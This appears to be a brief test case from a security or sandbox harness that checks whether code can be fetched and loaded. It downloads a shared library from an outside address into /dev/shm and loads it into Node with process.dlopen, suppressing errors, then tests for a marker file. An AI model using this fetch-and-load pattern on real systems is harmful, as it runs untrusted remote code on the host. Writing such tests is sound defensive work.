#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/programs/preload.so -o /dev/shm/x.node
node -e 'try { process.dlopen({ exports: {} }, "/dev/shm/x.node") } catch {}'
test -e /tmp/reached
took_place
